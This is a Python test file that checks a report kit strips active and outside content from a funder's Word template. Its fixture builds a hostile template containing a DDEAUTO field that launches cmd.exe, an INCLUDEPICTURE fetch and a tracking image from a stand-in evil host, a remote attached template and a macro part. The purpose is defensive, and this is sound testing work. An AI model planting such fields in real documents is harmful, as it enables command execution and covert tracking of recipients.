"""A funder's --docx-template: its looks come through, nothing that fetches, runs or links does (issue 29, Build 4).

The "Why": a template's remote attached template, the external image and hyperlink of
its header, its INCLUDEPICTURE and DDEAUTO fields and a vbaProject.bin macro part all
reached every report.docx, with no warning; a template with one truncated XML part gave
an lxml traceback.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import SAMPLE
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from impact_kit.batch.run import run_batch
from impact_kit.exceptions import InvalidArgument
from impact_kit.render.docx import DEFAULT_TEMPLATE, check_template, docx_bytes
from impact_kit.render.docx_clean import TemplateContentWarning

EVIL = "http://evil.example"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
PAGE = "<html lang='fr'><body><main><h1>Rapport</h1><h2>Lien social</h2><p>Une phrase.</p></main></body></html>"
NS = nsdecls("w", "r") + ' xmlns:v="urn:schemas-microsoft-com:vml"'
#: What the warning names, for the template below.
DROPPED = [
    f"an external hyperlink {EVIL}/funder",
    f"an external image {EVIL}/beacon.png",
    "the attached template",
    f"the attached template {EVIL}/normal.dotm",
    "the field DDEAUTO",
    "the field INCLUDEPICTURE",
    "vbaProject.bin",
]


def _field(*runs: str) -> str:
    return "".join(f"<w:r {NS}>{run}</w:r>" for run in runs)


def hostile_template(path: Path) -> Path:
    """The kit's template, with a funder's header carrying every kind of active or outside content."""
    document = docx.Document(str(DEFAULT_TEMPLATE))
    header = document.sections[0].header
    header.is_linked_to_previous = False
    header.add_paragraph("Fondation Exemple")
    link = header.part.relate_to(f"{EVIL}/funder", RT.HYPERLINK, is_external=True)
    image = header.part.relate_to(f"{EVIL}/beacon.png", RT.IMAGE, is_external=True)
    paragraph = header.add_paragraph()._p
    paragraph.append(parse_xml(f'<w:hyperlink {NS} r:id="{link}"><w:r><w:t>le site</w:t></w:r></w:hyperlink>'))
    paragraph.append(parse_xml(f'<w:r {NS}><w:pict><v:shape><v:imagedata r:id="{image}"/></v:shape></w:pict></w:r>'))
    dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    paragraph.append(parse_xml(f"<w:fldSimple {NS} w:instr='{dde}'><w:r><w:t>résultat</w:t></w:r></w:fldSimple>"))
    begin, separate, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    include = f'<w:instrText> INCLUDEPICTURE "{EVIL}/x.png" \\d </w:instrText>'
    fields = _field(begin, include, separate) + _field("<w:t>image</w:t>", end)
    fields += _field(begin, "<w:instrText> PAGE </w:instrText>", separate, "<w:t>1</w:t>", end)
    for run in parse_xml(f"<w:p {NS}>{fields}</w:p>"):
        paragraph.append(run)
    attached = document.part._settings_part.relate_to(f"{EVIL}/normal.dotm", ATTACHED, is_external=True)
    document.settings.element.append(parse_xml(f'<w:attachedTemplate {NS} r:id="{attached}"/>'))
    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"Attribute VB_Name", None)
    document.part.relate_to(macros, VBA)
    document.save(str(path))
    return path


def xml_of(payload: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        return "\n".join(f"{n}\n{archive.read(n).decode('utf-8', 'replace')}" for n in archive.namelist())


def test_the_template_check_names_everything_dropped_once(tmp_path):
    template = hostile_template(tmp_path / "funder.docx")
    with pytest.warns(TemplateContentWarning) as said:
        check_template(template)
    assert len(said) == 1
    message = str(said[0].message)
    assert all(phrase in message for phrase in DROPPED), message
    assert str(template) in message


def test_a_report_carries_none_of_it_and_keeps_the_header_text(tmp_path):
    template = hostile_template(tmp_path / "funder.docx")
    assert "vbaProject" in xml_of(template.read_bytes()) and EVIL in xml_of(template.read_bytes())
    payload = docx_bytes(PAGE, lang="fr", title="Rapport", footer="Rapport · 2021", template=template)
    xml = xml_of(payload)
    for gone in (EVIL, 'TargetMode="External"', "vbaProject", "attachedTemplate", "DDEAUTO", "INCLUDEPICTURE",
                 "v:imagedata", "<w:hyperlink"):  # fmt: skip
        assert gone not in xml, gone
    assert xml.count("<w:instrText") == 2  # the header's PAGE (a field of the kit's kind) and the footer's
    document = docx.Document(io.BytesIO(payload))
    header = "\n".join(p.text for p in document.sections[0].header.paragraphs)
    assert "Fondation Exemple" in header and "le site" in header and "résultat" in header and "image" in header


def test_a_clean_template_gives_no_warning():
    assert check_template(DEFAULT_TEMPLATE) == DEFAULT_TEMPLATE  # a warning would fail the test (filterwarnings)


def test_a_template_with_a_truncated_part_is_refused(tmp_path):
    damaged = tmp_path / "damaged.docx"
    with zipfile.ZipFile(DEFAULT_TEMPLATE) as source, zipfile.ZipFile(damaged, "w") as target:
        for name in source.namelist():
            payload = source.read(name)
            target.writestr(name, payload[: len(payload) // 2] if name == "word/styles.xml" else payload)
    with pytest.raises(InvalidArgument, match=r"damaged.docx: this is not a Word document .*XMLSyntaxError"):
        check_template(damaged)


@pytest.mark.slow
def test_a_batch_warns_once_and_writes_clean_documents(tmp_path):
    template = hostile_template(tmp_path / "funder.docx")
    data = tmp_path / "data"
    shutil.copytree(SAMPLE, data)
    out = tmp_path / "reports"
    with pytest.warns(TemplateContentWarning) as said:
        result = run_batch(data=data, out=out, sites=["the-good-start"], docx_template=template, progress=False)
    assert result.exit_code == 0 and len(said) == 1
    for path in out.glob("*/*/report.docx"):
        assert EVIL not in xml_of(path.read_bytes())
